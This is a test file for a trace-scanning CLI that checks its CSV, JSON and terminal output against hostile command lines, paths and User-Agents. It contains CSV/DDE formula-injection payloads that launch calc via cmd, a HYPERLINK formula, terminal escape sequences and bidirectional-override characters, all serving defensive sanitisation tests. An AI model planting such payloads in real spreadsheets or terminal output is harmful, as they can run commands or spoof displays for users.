// Text from a trace is untrusted: any local process chooses its own command line, and the paths
// and User-Agent it sends. A generated capture (netsh form) and kernel process trace carry hostile
// ones; scan's CSV must not hand a spreadsheet a formula (OWASP CSV injection: cells starting with
// = + - @, tab or CR), its JSON must give every character back exactly, and its tables must not
// let a terminal act on control or bidirectional characters.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { FILETIME_SECOND, imdsExchange, mergeByTime, writeKernelEtl, writeNetshEtl, type GenProcess } from '../../tools/gen/index.js';
import { repoRoot } from '../support/fixtures.js';

const bin = path.join(repoRoot, 'bin', 'etl-imds.js');
const tmp = mkdtempSync(path.join(os.tmpdir(), 'etl-hostile-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const capture = path.join(tmp, 'capture.etl');
const kernel = path.join(tmp, 'kernel.etl');

function run(args: string[]) {
  const r = spawnSync(process.execPath, [bin, ...args, '--no-auto-cab'], { cwd: repoRoot, encoding: 'utf8', maxBuffer: 1 << 26 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const START = 133_618_320_000_000_000n;
const at = (s: number) => START + BigInt(Math.round(s * 1e7));

/** Callers whose command line, request path and User-Agent are hostile. Paths and User-Agents are bytes (one character each). */
const HOSTILE = [
  { pid: 7001, commandLine: "=cmd|' /C calc'!A0", path: '=HYPERLINK("http://x/?"&A1)', ua: "=cmd|' /C calc'!A1" },
  { pid: 7002, commandLine: '+SUM(1,1)*cmd|\' /C calc\'!A0', path: '+1+1', ua: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { pid: 7003, commandLine: '-2+3+cmd|\' /C calc\'!A0', path: '-1', ua: '-2+3' },
  { pid: 7004, commandLine: '@SUM(1)', path: '@x', ua: '+1' },
  { pid: 7005, commandLine: '\t=1+1', path: '/latest/meta-data/\x1b]0;pwned\x07', ua: 'curl/8\x1b[2J\x1b[31m' },
  { pid: 7006, commandLine: '\r=1+1', path: '/latest/meta-data/\xe9\x00x', ua: 'ua\x7f\x9b2J' },
  { pid: 7007, commandLine: 'tool.exe \x1b[2J\x1b[31mred\x1b[0m \u202egnp.exe \u2066x\u2069 \ud800 lone \udc00 and "quotes", commas\r\nnew line', path: '/latest/meta-data/instance-id', ua: 'normal' },
];

beforeAll(async () => {
  const streams = HOSTILE.map((h, i) =>
    imdsExchange({
      start: at(1 + i * 0.1),
      pid: h.pid,
      clientPort: 50000 + i,
      request: Buffer.from(`GET ${h.path} HTTP/1.1\r\nHost: 169.254.169.254\r\nUser-Agent: ${h.ua}\r\n\r\n`, 'latin1'),
      response: Buffer.from('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nServer: EC2ws\r\n\r\n', 'latin1'),
    }),
  );
  const packets = [...mergeByTime(...streams)];
  const processes: GenProcess[] = HOSTILE.map((h, i) => ({ pid: h.pid, image: `\\Device\\HarddiskVolume1\\tools\\t${i}.exe`, ppid: 640, sessionId: 1, commandLine: h.commandLine, userSid: 'S-1-5-18', startTime: at(0.5 + i * 0.01) }));
  const common = { startTime: START, endTime: at(3), bootTime: START - 86_400n * FILETIME_SECOND, numberOfProcessors: 2 };
  await writeNetshEtl(capture, packets, { ...common, processes });
  await writeKernelEtl(kernel, { ...common, startTime: START - FILETIME_SECOND, endTime: at(4), kernelProcesses: processes });
});

/** RFC 4180 records (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (ch === '"' && cell === '') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        cell += text.slice(i, q);
        i = q + 1;
        if (text[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
      continue;
    }
    if (ch === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      cell += ch;
      i++;
    }
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;
/**
 * What a safe CSV cell holds for a value: the value, behind an apostrophe when it starts like a
 * formula. CSV is UTF-8 text, where an unpaired surrogate can only be U+FFFD (JSON keeps it).
 */
const safe = (v: string) => {
  const text = v.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
  return FORMULA.test(text) ? `'${text}` : text;
};

describe('hostile command lines, paths and User-Agents', () => {
  it('CSV: a cell that starts like a formula gets an apostrophe in front; the rest of every cell is kept', () => {
    const r = run(['scan', capture, '--with', kernel, '--csv']);
    expect(r.code).toBe(0);
    const [head, ...rows] = parseCsv(r.stdout);
    const col = (name: string) => head!.indexOf(name);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const h of HOSTILE) {
      const row = rows.find((x) => x[col('pid')] === String(h.pid))!;
      expect(row[col('commandLine')], h.commandLine).toBe(safe(h.commandLine));
      expect(row[col('paths')]).toBe(safe(h.path));
      expect(row[col('v1')]).toBe('1');
    }
    for (const row of rows) for (const cell of row) expect(FORMULA.test(cell), cell).toBe(false);
    const q = run(['scan', capture, '--with', kernel, '--csv', '--requests']);
    const [qh, ...qrows] = parseCsv(q.stdout);
    for (const h of HOSTILE) {
      const row = qrows.find((x) => x[qh!.indexOf('pid')] === String(h.pid))!;
      expect(row[qh!.indexOf('userAgent')]).toBe(safe(h.ua));
      expect(row[qh!.indexOf('path')]).toBe(safe(h.path));
      expect(row[qh!.indexOf('commandLine')]).toBe(safe(h.commandLine));
    }
    for (const row of qrows) for (const cell of row) expect(FORMULA.test(cell), cell).toBe(false);
  });

  it('JSON: every character as it was, control characters and unpaired surrogates escaped, not replaced', () => {
    const r = run(['scan', capture, '--with', kernel, '--json']);
    expect(r.code).toBe(0);
    // Escapes only: the document itself is plain printable text.
    // eslint-disable-next-line no-control-regex
    expect(r.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(r.stdout).toContain('ua\\u007f\\u009b2J');
    expect(r.stdout).toContain('\\u202egnp.exe');
    expect(r.stdout).toContain('\\ud800 lone \\udc00');
    const j = JSON.parse(r.stdout);
    for (const h of HOSTILE) {
      const p = j.processes.find((x: { pid: number }) => x.pid === h.pid);
      expect(p.commandLine).toBe(h.commandLine);
      expect(p.paths).toEqual([h.path]);
      expect(p.userAgents).toEqual([h.ua]);
      const q = j.requests.find((x: { pid: number }) => x.pid === h.pid);
      expect([q.path, q.userAgent, q.commandLine]).toEqual([h.path, h.ua, h.commandLine]);
    }
  });

  it('tables: nothing a terminal would act on reaches it; it is shown escaped instead', () => {
    for (const args of [[], ['--wide'], ['--requests', '--wide'], ['--pid', '7007'], ['--pid', '7005'], ['--pid', '7006']]) {
      const r = run(['scan', capture, '--with', kernel, ...args]);
      expect(r.code).toBe(0);
      // eslint-disable-next-line no-control-regex
      expect(r.stdout, args.join(' ')).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]/);
    }
    const detail = run(['scan', capture, '--with', kernel, '--pid', '7007']).stdout;
    expect(detail).toContain('Command line  tool.exe \\x1B[2J\\x1B[31mred\\x1B[0m \\u202Egnp.exe \\u2066x\\u2069 \\uD800 lone \\uDC00 and "quotes", commas\\x0D\\x0Anew line');
    expect(run(['scan', capture, '--with', kernel, '--pid', '7005']).stdout).toContain('/latest/meta-data/\\x1B]0;pwned\\x07');
    expect(run(['scan', capture, '--with', kernel, '--requests', '--wide']).stdout).toContain('/latest/meta-data/é\\x00x');
  });
});
